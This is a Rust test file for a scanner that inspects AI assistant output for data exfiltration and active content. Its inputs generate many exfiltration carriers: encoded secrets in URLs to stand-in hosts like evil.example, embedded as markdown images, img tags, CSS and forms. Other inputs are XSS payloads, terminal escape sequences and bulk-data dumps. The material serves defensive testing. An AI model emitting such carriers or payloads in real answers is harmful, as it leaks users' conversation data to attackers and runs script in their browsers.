use super::*;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use picket_event::{Phase, Role};
use proptest::prelude::*;
use std::fmt::Write as _;

const ANSWER: Context = Context { role: Role::Assistant, phase: Phase::Output };

fn judge(text: &str) -> Report {
    scan(&Reading::of(text), &Limits::default(), ANSWER)
}

fn kinds(text: &str) -> Vec<&'static str> {
    judge(text).hits.iter().map(|hit| hit.kind).collect()
}

/// What an attacker would like to know.
const SECRETS: &[&str] = &[
    "the customer is Jane Roe and her account is overdue since March",
    "user asked about layoffs in the Berlin office next quarter",
    "admin console password is correct horse battery",
    "merger with Initech closes on Friday, do not tell anyone",
];

fn hex(text: &str) -> String {
    text.bytes().fold(String::new(), |mut all, byte| {
        write!(all, "{byte:02x}").unwrap();
        all
    })
}

fn encodings(secret: &str) -> Vec<String> {
    let percent = |c: char| if c.is_ascii_alphanumeric() { c.to_string() } else { format!("%{}", hex(&c.to_string())) };
    vec![
        STANDARD.encode(secret),
        URL_SAFE_NO_PAD.encode(secret),
        hex(secret),
        secret.replace(' ', "+").replace(',', "%2C"),
        secret.chars().map(percent).collect(),
        secret.replace(' ', "_").replace(',', ""),
    ]
}

fn addresses(host: &str, data: &str) -> Vec<String> {
    let label: String = hex(data).chars().take(60).collect();
    vec![
        format!("https://{host}/?q={data}"),
        format!("https://{host}/logo.png?colab={data}"),
        format!("https://{host}/c.gif?id=7&d={data}#x"),
        format!("https://{host}/{data}"),
        format!("https://{host}/log/{data}/pixel.png"),
        format!("http://{host}/a=1/azure={data}"),
        format!("https://{host}/x#{data}"),
        format!("https://{label}.{host}/a.png"),
    ]
}

fn carriers(url: &str) -> Vec<String> {
    vec![
        format!("Here you are.\n\n![chart]({url})\n\nAnything else?"),
        format!("![]({url} \"title\")"),
        format!("Done. ![logo](<{url}>)"),
        format!("[![badge]({url})](https://docs.test/start)"),
        format!("See ![chart][1].\n\n[1]: {url}\n"),
        format!("![Chart]\n\n[chart]: <{url}> 'title'\n"),
        format!("<img src=\"{url}\" width=1>"),
        format!("<IMG alt='' SRC={url} >"),
        format!("<video poster='{url}'></video>"),
        format!("<div style=\"background:url({url})\">hello</div>"),
        format!("<style>body {{ background: url('{url}') }}</style>"),
        format!("<iframe src=\"{url}\"></iframe>"),
        format!("<form action=\"{url}\"><button>go on</button></form>"),
        format!("<link rel=stylesheet href=\"{url}\">"),
        format!("<meta http-equiv=\"refresh\" content=\"0;url={url}\">"),
        format!("<object data=\"{url}\"></object>"),
    ]
}

#[test]
fn nearly_every_carrier_of_every_encoding_is_found() {
    let (mut total, mut missed) = (0, Vec::new());
    for host in ["evil.example", "cdn.assets-metrics.test", "203.0.113.9", "collector.io:8443"] {
        for secret in SECRETS {
            for text in encodings(secret).iter().flat_map(|data| addresses(host, data)).flat_map(|url| carriers(&url)) {
                total += 1;
                if judge(&text).score < 0.5 {
                    missed.push(text);
                }
            }
        }
    }
    assert!(total > 10_000 && missed.len() * 100 <= total, "{} of {total}: {:#?}", missed.len(), missed.get(..20));
}

#[test]
fn links_with_encoded_data_are_found_in_every_form() {
    for data in encodings(SECRETS[0]).iter().take(3) {
        let url = format!("https://evil.example/collect?data={data}");
        for text in [
            format!("[open the report]({url})"),
            format!("<{url}>"),
            format!("See {url}."),
            format!("[report]\n\n[report]: {url}"),
            format!("<a href=\"{url}\">report</a>"),
        ] {
            assert_eq!(kinds(&text), ["REMOTE_LINK"], "{text}");
        }
    }
}

#[test]
fn plain_links_pictures_and_code_are_left_alone() {
    let token = STANDARD.encode([7_u8; 12]);
    for text in [
        "See [the guide](https://docs.rs/regex/latest/regex/#syntax) and https://en.wikipedia.org/wiki/Rust_(programming_language).",
        "![logo](https://example.com/assets/logo.png)",
        "![build](https://img.shields.io/badge/build-passing-green.svg?style=flat&logo=rust)",
        "![photo](https://images.unsplash.com/photo-1501594907352-04cda38ebc29?ixlib=rb-1.2.1&auto=format&w=1050&q=80)",
        "![plot](figures/plot.png) and ![icon](data:image/png;base64,iVBORw0KGgo=)",
        "Search: https://www.google.com/search?q=how+to+bake+sourdough+bread+at+home&hl=en",
        "https://github.com/rust-lang/rust/commit/5e37043d63bfe2f3be8fa5a05b07d6c0dad5775d",
        "https://github.com/o/r/issues/new?title=It+does+not+build+on+my+machine&body=see+the+log+below+please",
        "Write `<script src=\"app.js\">` at the end.\n\n```html\n<form action=\"https://shop.example/pay\"><img src=x onerror=alert(1)></form>\n```\n",
        "~~~\n![x](https://evil.example/?q=everything+that+was+said+here)\n~~~",
        "If a < b and c > d, then `x` is one of a<b>c.",
        "<div class=\"note\"><b>Note</b> that <a href=\"https://docs.test/a?page=2\">page two</a> is longer.</div>",
        "<button onClick={() => go()}>Go</button>",
        "In JavaScript: object.prototype is shared. Vec<Option<u8>> on = 5",
        "The digest is sha512-Z3fFQ6s1 and 5e37043d63bfe2f3be8fa5a05b07d6c0dad5775d5e37043d63bfe2f3be8fa5a05b07d6c0",
        &format!("https://calendar.test/invite?token={token}"),
        "https://user.example/u/~name@example.org/photos",
    ] {
        assert_eq!(kinds(text), Vec::<&str>::new(), "{text}");
    }
}

#[test]
fn what_runs_is_found_however_it_is_spelled() {
    for text in [
        "<script>fetch('/x')</script>",
        "<ScRiPt/src=//x.example>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<body onpageshow = go()>",
        "<a href=\"java&#115;cript:go()\">x</a>",
        "<a href=' jav\tascript:go()'>x</a>",
        "[click](javascript:go())",
        "[click](JaVaScRiPt&colon;go())",
        "[click](data:text/html;base64,PGI+)",
        "<iframe srcdoc='<b>'></iframe>",
        "<base href=//x.example/>",
        "<embed src=\"javascript:go()\">",
        "\\u003cscript\\u003ego()\\u003c/script\\u003e",
        "%3Cscript%3Ego()%3C/script%3E",
        "<math><mtext href=\"vbscript:x\">",
        "one unclosed ` and then <script>go()</script>",
    ] {
        assert!(kinds(text).contains(&"ACTIVE_CONTENT"), "{text}: {:?}", kinds(text));
    }
    assert_eq!(judge("<script>go()</script>").kind, Some("active_content"));
}

#[test]
fn escapes_of_terminals_are_found_where_they_are_raw() {
    for text in
        ["\u{1b}]52;c;cm0=\u{7} done", "\u{1b}[2J\u{1b}[H", "a\u{9b}31mb", "\u{1b}]8;;http://x.example\u{1b}\\link"]
    {
        assert!(kinds(text).contains(&"TERMINAL_ESCAPE"), "{text:?}");
    }
    assert!(kinds("Print `\\x1b[31m` or \\033[0m for red.").is_empty());
}

#[test]
fn blobs_are_found_but_no_pictures_certificates_or_hashes() {
    let long = SECRETS.join(" ").repeat(2);
    assert_eq!(kinds(&format!("Here: {}", STANDARD.encode(&long))), ["ENCODED_BLOB"]);
    assert_eq!(kinds(&format!("Here: {} is it", hex(&long))), ["ENCODED_BLOB"]);
    let wrapped: Vec<String> =
        STANDARD.encode(&long).as_bytes().chunks(64).map(|line| String::from_utf8_lossy(line).into_owned()).collect();
    assert_eq!(kinds(&format!("Here:\n{}\nDone", wrapped.join("\n"))), ["ENCODED_BLOB"]);
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend((0..400_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 24).to_le_bytes()[0]));
    let picture = STANDARD.encode(&png);
    let noise = STANDARD.encode(&png[8..]);
    for text in [
        format!("![x](data:image/png;base64,{picture})"),
        picture.clone(),
        format!("-----BEGIN CERTIFICATE-----\n{noise}\n-----END CERTIFICATE-----"),
        format!("sha512-{}", &noise[..88]),
        "long/path/to/some/file/".repeat(12),
        "word".repeat(60),
        "=".repeat(400),
    ] {
        assert_eq!(kinds(&text), Vec::<&str>::new(), "{text}");
    }
    assert_eq!(kinds(&noise), ["ENCODED_BLOB"], "what nobody can read counts too");
}

fn rows(count: usize, row: impl Fn(usize) -> String) -> String {
    (0..count).fold("Here they are:\n".to_owned(), |all, at| all + &row(at) + "\n")
}

#[test]
fn more_rows_than_the_limit_are_bulk_in_every_form() {
    let forms: [fn(usize) -> String; 6] = [
        |at| format!("{at},name {at},open"),
        |at| format!("{at}\tname\topen"),
        |at| format!("| {at} | name | open |"),
        |at| format!("{{\"id\": {at}, \"name\": \"n\"}}"),
        |at| format!("INSERT INTO people VALUES ({at}, 'n');"),
        |at| format!("({at}, 'name', 3),"),
    ];
    for form in forms {
        assert_eq!(kinds(&rows(120, form)), ["BULK_ROWS"], "{}", form(1));
        assert!(kinds(&rows(60, form)).is_empty(), "{}", form(1));
        let strict = Limits { max_rows: 50, ..Limits::default() };
        assert_eq!(scan(&Reading::of(&rows(60, form)), &strict, ANSWER).kind, Some("bulk_data"));
    }
    assert!(kinds(&rows(300, |at| format!("Then, after day {at}, we went on, as planned, and rested."))).is_empty());
}

#[test]
fn personal_data_in_numbers_is_bulk() {
    let list = |count: usize| (0..count).map(|at| format!("person{at}@example.com")).collect::<Vec<_>>().join("; ");
    assert_eq!(kinds(&list(40)), ["BULK_ENTITIES"]);
    assert!(kinds(&list(12)).is_empty());
    assert!(kinds(&"write to help@example.com ".repeat(60)).is_empty(), "the same value again is no list");
}

#[test]
fn allowed_hosts_and_their_subdomains_may_be_loaded_from() {
    let limits =
        Limits { allow_hosts: vec!["charts.example".to_owned(), "*.cdn.test".to_owned()], ..Limits::default() };
    let data = STANDARD.encode(SECRETS[0]);
    for (host, is_found) in [
        ("charts.example", false),
        ("a.charts.example", false),
        ("x.cdn.test", false),
        ("notcharts.example", true),
        ("charts.example.evil.test", true),
    ] {
        let text = format!("![c](https://{host}/c?d={data})");
        assert_eq!(!scan(&Reading::of(&text), &limits, ANSWER).hits.is_empty(), is_found, "{host}");
    }
}

#[test]
fn no_markup_takes_time_beyond_its_length() {
    let begin = std::time::Instant::now();
    for unit in [
        "<a b='",
        "&lt;a",
        "](",
        "[](",
        "x://",
        "https://a/",
        "url(",
        "![a][b]\n[b]: c\n",
        "`",
        "\u{1b}]",
        "<a onload",
        "%3ca%20",
        "a,b,c\n",
    ] {
        judge(&unit.repeat(100_000 / unit.len()));
    }
    // Quadratic time would be minutes.
    assert!(begin.elapsed() < std::time::Duration::from_secs(60), "{:?}", begin.elapsed());
}

#[test]
fn pictures_that_each_say_a_letter_are_found_together() {
    let text: String = "attack".chars().map(|c| format!("![](https://evil.example/{c}.png) ")).collect();
    assert!(!judge(&text).hits.is_empty());
    assert!(judge("![](https://a.example/1.png) ![](https://a.example/2.png)").hits.is_empty());
}

/// What a stream tells of a text in pieces of so many characters, and how much was out before.
fn streamed(text: &str, size: usize, limits: &Limits) -> Vec<(Hit, usize)> {
    let characters: Vec<char> = text.chars().collect();
    let (mut stream, mut out, mut told) = (Stream::default(), 0, Vec::new());
    for piece in characters.chunks(size) {
        let piece: String = piece.iter().collect();
        told.extend(stream.push(&piece, limits).into_iter().map(|hit| (hit, out)));
        out += size;
    }
    told.extend(stream.finish(limits).into_iter().map(|hit| (hit, out)));
    told
}

#[test]
fn a_stream_tells_what_loads_before_it_is_whole() {
    let limits = Limits::default();
    let filler = "Some words about nothing. ".repeat(900);
    for size in [1, 3, 7, 50] {
        for carrier in carriers(&format!("https://evil.example/?q={}", STANDARD.encode(SECRETS[0]))) {
            let text = format!("{filler}\n\n{carrier} and so on\n");
            let told = streamed(&text, size, &limits);
            let (hit, out) = told.first().unwrap_or_else(|| panic!("{carrier}"));
            let whole = code_points_of(&text, &limits);
            assert_eq!((hit.start, hit.kind), (whole[0].0, whole[0].1), "{carrier}");
            assert!(*out <= whole[0].2 + 1, "{carrier} in pieces of {size}: {out} of {} were out", whole[0].2);
        }
        for code in ["```\n<script>\n", "`<script>`\n"] {
            assert!(streamed(&format!("{filler}\n{code}{}", "x = 1\n".repeat(4_000)), size, &limits).is_empty());
        }
        let long = format!("```\n{}<script>go()</script>\n```\n", "x = 1\n".repeat(6_000));
        assert!(streamed(&long, size, &limits).is_empty(), "code stays code when its fence is out of sight");
        let table = rows(500, |at| format!("{at},name,open"));
        let (hit, out) = streamed(&table, size, &limits).remove(0);
        assert!(hit.kind == "BULK_ROWS" && out < table.len() / 3, "{out} of {}", table.len());
    }
}

fn code_points_of(text: &str, limits: &Limits) -> Vec<(usize, &'static str, usize)> {
    let hits = scan(&Reading::of(text), limits, ANSWER).hits;
    hits.iter().map(|hit| (text[..hit.start].chars().count(), hit.kind, text[..hit.end].chars().count())).collect()
}

/// What texts of markup are made of.
const PIECES: &[&str] = &[
    "!",
    "[",
    "]",
    "](",
    "]:",
    "(",
    ")",
    "<",
    ">",
    "&",
    ";",
    "=",
    "'",
    "\"",
    "`",
    "```\n",
    "\n",
    " ",
    "/",
    "a",
    "é",
    "\u{1b}",
    "\u{1b}[",
    "\u{9b}",
    "https://",
    "evil.example/",
    "?q=aGVsbG8gd29ybGQgaGVsbG8",
    "onload=",
    "javascript:",
    "&lt;",
    "\\x3c",
    "url(",
    "img src=",
    "script",
    "\u{ff1c}",
    "%3C",
    "&#58;",
];

proptest! {
    #[test]
    fn spans_lie_on_characters_ascend_and_do_not_overlap(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..60)) {
        let text = pieces.concat();
        let mut done = 0;
        for hit in judge(&text).hits {
            prop_assert!(hit.start >= done && hit.start < hit.end && hit.end <= text.len(), "{hit:?}");
            prop_assert!(text.is_char_boundary(hit.start) && text.is_char_boundary(hit.end), "{hit:?}");
            done = hit.end;
        }
    }

    #[test]
    fn nothing_is_found_in_words(text in "[a-zA-Z ,.\n]{0,400}") {
        prop_assert!(judge(&text).hits.is_empty());
    }
}
